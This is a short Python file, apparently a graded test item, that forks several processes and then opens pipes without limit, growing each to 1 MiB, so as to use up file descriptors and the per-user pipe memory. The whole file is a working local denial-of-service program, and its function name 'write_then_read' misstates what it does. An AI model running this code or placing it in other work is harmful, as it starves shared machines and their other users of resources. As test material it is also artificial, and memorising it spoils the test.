"""Makes pipes as large and as many as it may: what they hold is counted for each user, pipe(7).

status = ["graded", "timeout"]
"""

import fcntl
import os

LARGEST = 1 << 20
held = []


def write_then_read(message):
    for _ in range(8):
        if os.fork() == 0:
            break
    try:
        while True:
            held.append(os.pipe())
            try:
                fcntl.fcntl(held[-1][1], 1031, LARGEST)
            except OSError:
                continue
    except OSError:
        os.read(held[-1][0], 1)
